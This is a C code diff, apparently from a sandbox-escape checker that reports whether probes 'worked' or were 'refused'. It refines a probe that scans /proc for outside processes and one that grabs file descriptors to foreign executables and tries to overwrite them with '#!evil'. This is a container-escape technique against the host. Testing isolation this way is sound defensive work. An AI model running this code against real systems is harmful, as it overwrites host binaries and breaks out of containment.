@@ -69,6 +69,12 @@ static int look_at_processes(const char *marker, char *found, size_t size) {
   while ((entry = readdir(proc))) {
     if (!is_number(entry->d_name)) continue;
     char path[1024], target[4096];
+    struct stat own, other;
+    snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
+    /* Another attack, which holds what it has caught. */
+    if (atoi(entry->d_name) != self && stat("/proc/self/exe", &own) == 0 && stat(path, &other) == 0 &&
+        own.st_dev == other.st_dev && own.st_ino == other.st_ino)
+      continue;
     for (const char *const *name = (const char *const[]){"cwd", "root", NULL}; *name; name++) {
       snprintf(path, sizeof path, "/proc/%s/%s", entry->d_name, *name);
       int dir = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
@@ -141,8 +147,8 @@ static int chroot_climb(const char *marker) {
 static int hunt_programs(double seconds) {
   double end = now() + seconds;
   unsigned seen = 0;
-  int last = 0, hunted = 0;
-  struct { int fd; double since; } held[16] = {0};
+  int last = 0, hunted = 0, busy = 0;
+  int held[16] = {0};
   char path[512], target[4096];
   while (now() < end) {
     DIR *proc = opendir("/proc");
@@ -159,15 +165,15 @@ static int hunt_programs(double seconds) {
       }
       hunted++;
       int slot = 0;
-      while (slot < 15 && held[slot].fd) slot++;
-      if (held[slot].fd) close(held[slot].fd);
-      held[slot].fd = fd;
-      held[slot].since = now();
+      while (slot < 15 && held[slot]) slot++;
+      if (held[slot]) close(held[slot]);
+      held[slot] = fd;
     }
     if (proc) closedir(proc);
+    busy = 0;
     for (int i = 0; i < 16; i++) {
-      if (!held[i].fd) continue;
-      snprintf(path, sizeof path, "/proc/self/fd/%d", held[i].fd);
+      if (!held[i]) continue;
+      snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
       int fd = open(path, O_WRONLY | O_CLOEXEC);
       if (fd >= 0) {
         ssize_t length = readlink(path, target, sizeof target - 1);
@@ -175,12 +181,19 @@ static int hunt_programs(double seconds) {
         if (pwrite(fd, "#!evil\n", 7, 0) == 7) return worked("overwrote %s", target);
       }
       last = errno;
-      if (last != ETXTBSY || now() > held[i].since + 3) {
-        close(held[i].fd);
-        held[i].fd = 0;
+      /* It is said to run before it is said to be on a read-only mount. */
+      struct statvfs mount;
+      if (last == ETXTBSY && fstatvfs(held[i], &mount) == 0 && (mount.f_flag & ST_RDONLY)) last = EROFS;
+      if (last == ETXTBSY) {
+        busy = 1;
+        continue;
       }
+      close(held[i]);
+      held[i] = 0;
     }
   }
+  /* Something else runs it. It need only wait. */
+  if (busy) return worked("a program of the outside can be written as soon as nobody runs it");
   errno = last;
   return refused("%u programs seen, %d of them foreign", seen, hunted);
 }
